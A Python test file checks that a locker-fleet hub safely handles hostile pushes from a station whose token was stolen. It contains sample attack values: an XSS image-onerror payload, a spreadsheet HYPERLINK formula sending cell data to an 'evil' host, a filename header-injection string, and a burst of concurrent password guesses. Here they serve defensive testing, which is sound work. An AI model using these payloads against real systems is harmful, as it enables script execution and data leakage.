"""A compromised station attacks the hub (issue: trust no client, round 2). Whoever holds one
station's token - a stolen SD card is enough - pushes what they like. Before: markup in a status
ran as script in the hub admin's browser (who could then open doors fleet-wide), a `devices`
string made the station list answer 500, one checkout with `in_session: "many"` stopped every
alert round, and a metric name became a spreadsheet formula in the fleet CSV."""

from __future__ import annotations

import os
import subprocess
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from hub import alerts, fleet
from hub.profile import AlertSettings
from tests.conftest import bronco
from tests.hub.conftest import Hub
from tests.hub.test_hub_api import bearer, client_for, code_for, enrol

SCRIPT = '<img src=x onerror="window.pwned=1;document.title=\'pwned\'">'
PASSWORD = "a long hub password"


def pushed(kind: str, seq: int, payload: object) -> dict:
    return {"event_id": str(uuid.uuid4()), "seq": seq, "kind": kind,
            "at": datetime.now(UTC).isoformat(), "payload": payload}


def hostile_events() -> list[dict]:
    return [
        pushed("status", 1, {"version": SCRIPT, "queue_pending": 3, "open_exceptions": 1,
                             "devices": {SCRIPT: SCRIPT, "printer:receipt": "ok"}}),
        # The attack as found: markup where the console expected a number (the latest status).
        pushed("status", 2, {"queue_pending": SCRIPT, "open_exceptions": SCRIPT}),
        pushed("desk", 3, {"doors": [{"door_id": SCRIPT, "size": SCRIPT, "state": "loaded",
                                      "initials": "<b>", "items": 2, "sensor": "closed"}],
                           "exceptions": [{"id": 1, "kind": "checkin", "reason": SCRIPT}]}),
    ]


def test_malformed_pushes_break_no_page_no_alert_round_and_no_spreadsheet(
        hub_engine: Engine, hub_url: str) -> None:
    client: TestClient = client_for(hub_engine, hub_url)
    admin = fleet.create_staff_token(hub_engine, "it-admin", "admin")
    thief = enrol(client, "stolen", code_for(client, admin, "stolen"))
    now = datetime.now(UTC)
    events = [
        pushed("status", 1, {"devices": "xx", "queue_pending": -5}),
        pushed("checkout", 2, {"ok": True, "in_session": "many"}),
        pushed("stats", 3, {"hour": now.replace(minute=0, second=0, microsecond=0).isoformat(),
                            "values": {'refused:=HYPERLINK("http://evil/?"&A1,"x")': 1,
                                       "checkouts": 2}}),
        pushed("door", 4, {"door_id": "A01", "sensor": "open", "alarm": "left_open"}),
        pushed("format_disk", 5, {"now": True}),
    ]
    assert client.post("/api/v1/fleet/events", json={"events": events},
                       headers=bearer(thief)).json() == {"acked": 5}  # the sequence goes on
    listed = client.get("/api/v1/stations", headers=bearer(admin))
    assert listed.status_code == 200  # the station list still draws
    row = next(s for s in listed.json() if s["id"] == "stolen")
    assert row["devices"] == {} and row["queue_pending"] is None  # nothing unchecked is shown
    stored = client.get("/api/v1/stations/stolen/events", headers=bearer(admin)).json()
    assert [e["kind"] for e in stored] == ["invalid", "invalid", "invalid", "door", "invalid"]
    # The alert round still runs and the real alarm in the same push is raised.
    rules = AlertSettings(station_offline_s=86400)
    alerts.evaluate(hub_engine, rules, now + timedelta(seconds=60))
    kinds = {a["kind"] for a in alerts.history(hub_engine, open_only=True)}
    assert "door_left_open" in kinds
    # The fleet CSV has no cell a spreadsheet would run.
    today = now.date().isoformat()
    csv_text = client.get(f"/api/v1/statistics?from={today}&to={today}&format=csv",
                          headers=bearer(admin)).text
    cells = [cell for line in csv_text.splitlines() for cell in line.split(",")]
    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells), csv_text


def test_the_stats_csv_file_name_takes_no_header_injection(hub_engine: Engine, hub_url: str) -> None:
    from hub.staff import add_user
    from tests.hub.test_hub_console_http import sign_in

    client = client_for(hub_engine, hub_url)
    add_user(hub_engine, "desk1", PASSWORD, "desk", by="test")
    assert sign_in(client, "desk1", PASSWORD) == 200  # followed to the console
    answer = client.get("/console/stats.csv", params={"branch": 'x"; filename="evil.exe'})
    disposition = answer.headers["content-disposition"]
    assert disposition.count('"') == 2 and "evil.exe" not in disposition.replace("evil_exe", "")


@pytest.mark.slow
def test_a_station_pushing_markup_runs_no_script_in_the_hub_console(hub: Hub, artifacts: Path) -> None:
    from playwright.sync_api import expect, sync_playwright

    from tests.console.test_console_browser import CHROMIUM, FLAGS

    if not Path(CHROMIUM).exists():
        pytest.skip("Debian's chromium is not installed (scripts/run-tests installs it)")
    subprocess.run(bronco("hub", "user", "hubadmin", "--profile", str(hub.profile), "--role",
                          "admin"), check=True, capture_output=True,
                   env={**os.environ, "BRONCO_STAFF_PASSWORD": PASSWORD})
    admin = hub.token("it-admin", "admin")
    code = hub.call("POST", "/api/v1/stations/stolen/enrolment-code", admin).json()["code"]
    thief = httpx.post(f"{hub.url}/api/v1/enrol",
                       json={"station_id": "stolen", "code": code}).json()["token"]
    assert hub.call("POST", "/api/v1/fleet/events", thief,
                    json={"events": hostile_events()}).json() == {"acked": 3}
    console = httpx.get(f"{hub.url}/console/login")
    assert "script-src 'self'" in console.headers["content-security-policy"]

    shots = artifacts / "hub-console"
    shots.mkdir(exist_ok=True)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        page = browser.new_page()
        try:
            page.goto(f"{hub.url}/console/login")
            page.fill("input[name=username]", "hubadmin")
            page.fill("input[name=password]", PASSWORD)
            page.click("button[type=submit]")
            row = page.locator('#stations tr[data-station="stolen"]')
            expect(row).to_contain_text("onerror")  # shown as text...
            expect(row).to_contain_text("3 queued")
            page.click("nav >> text=Locker banks")
            grid = page.locator('[data-grid="stolen"]')
            expect(grid.locator(".door")).to_have_count(1)
            expect(grid).to_contain_text("onerror")
            page.click("nav >> text=Queue")
            expect(page.locator("main")).to_contain_text("onerror")
            page.screenshot(path=str(shots / "hostile-station.png"), full_page=True)
            # ...and never run, on any page the admin opened.
            assert page.evaluate("window.pwned") is None
            assert page.title() != "pwned"
        finally:
            browser.close()


def test_the_hubs_unauthenticated_rows_are_bounded(hub_engine: Engine) -> None:
    from sqlmodel import Session, select

    from hub.housekeeping import bound_tables
    from hub.models import HubLoginAttempt

    old, now = datetime.now(UTC) - timedelta(days=3), datetime.now(UTC)
    with Session(hub_engine) as db:
        for n in range(50):
            db.add(HubLoginAttempt(key=f"peer:10.0.0.{n}", failures=2, last_failure=old))
        db.add(HubLoginAttempt(key="user:waiting", failures=9, last_failure=old,
                               wait_until=now + timedelta(minutes=10)))
        db.add(HubLoginAttempt(key="peer:recent", failures=1, last_failure=now))
        db.commit()
    bound_tables(hub_engine)
    with Session(hub_engine) as db:
        assert set(db.exec(select(HubLoginAttempt.key))) == {"user:waiting", "peer:recent"}


def test_a_hub_on_the_network_speaks_https() -> None:
    """The attack: on a plain-HTTP hub, anyone on the path reads station tokens and staff
    passwords, or answers a station's command poll with open_door."""
    from hub.profile import HubSettings

    with pytest.raises(ValueError, match="HTTPS"):
        HubSettings(database_url="postgresql://h/db", host="0.0.0.0")
    HubSettings(database_url="postgresql://h/db", host="0.0.0.0", tls_cert=Path("c.pem"),
                tls_key=Path("k.pem"))
    HubSettings(database_url="postgresql://h/db", host="0.0.0.0", trusted_proxies=["10.0.0.2"])
    HubSettings(database_url="postgresql://h/db")  # loopback


def test_simultaneous_wrong_hub_passwords_are_checked_no_more_than_the_limit(
        hub: Hub, tmp_path: Path) -> None:
    """The attack: nineteen simultaneous sign-ins were all checked against a limit of four."""
    import asyncio
    import re
    from collections import Counter

    subprocess.run(bronco("hub", "user", "desk1", "--profile", str(hub.profile)), check=True,
                   capture_output=True, env={**os.environ, "BRONCO_STAFF_PASSWORD": PASSWORD})

    async def one(n: int) -> int:
        async with httpx.AsyncClient(base_url=hub.url, timeout=60) as client:
            form = await client.get("/console/login")
            token = re.search(r'name="csrf_token" value="([^"]+)"', form.text).group(1)
            answer = await client.post("/console/login", data={
                "username": "desk1", "password": f"guess {n}", "csrf_token": token})
            return answer.status_code

    async def burst() -> list[int]:
        return list(await asyncio.gather(*(one(n) for n in range(19))))

    codes = Counter(asyncio.run(burst()))
    assert codes[401] <= 5 and set(codes) <= {401, 429}, codes  # 4 free, then one that waits


def test_rotating_ipv6_addresses_of_one_network_is_one_guesser() -> None:
    from station_core.peers import peer_group

    assert peer_group("2001:db8:1:2::10") == peer_group("2001:db8:1:2:ffff::99")
    assert peer_group("2001:db8:1:3::10") != peer_group("2001:db8:1:2::10")
    assert peer_group("127.0.0.2") == peer_group("::1") == peer_group("127.0.0.1")
    assert peer_group("::ffff:10.0.0.5") == peer_group("10.0.0.5")
